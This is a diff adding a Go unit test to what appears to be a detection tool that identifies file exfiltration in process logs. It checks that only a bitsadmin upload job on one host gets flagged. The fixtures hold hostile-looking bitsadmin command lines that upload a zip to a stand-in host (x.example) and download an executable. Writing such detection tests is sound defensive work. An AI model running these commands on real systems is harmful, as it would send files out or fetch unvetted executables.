@@ -266,3 +266,17 @@ func TestLargeTransfer(t *testing.T) {
 		t.Errorf("a small transfer is exposure: %+v", ops[0].Exposure.Items)
 	}
 }
+
+// bitsadmin /addfile sends the file only when its job was created as an
+// upload on that host; the same command in a download job fetches it.
+func TestBitsUploadJob(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("WS1", 0, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /create /upload J1`, `C:\`),
+		proc("WS1", 1, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j1 https://x.example/u C:\t\o.zip`, `C:\`),
+		proc("WS1", 2, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j2 https://x.example/t.exe C:\t\t.exe`, `C:\`),
+		proc("WS2", 3, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j1 https://x.example/u C:\t\p.zip`, `C:\`),
+	)
+	if len(e.Items) != 1 || e.Items[0].Tool != "bitsadmin" || e.Items[0].Host != "WS1" || !slices.Equal(e.Items[0].Sources, []string{`C:\t\o.zip`}) {
+		t.Errorf("items %+v, want the upload of C:\\t\\o.zip on WS1 alone", e.Items)
+	}
+}
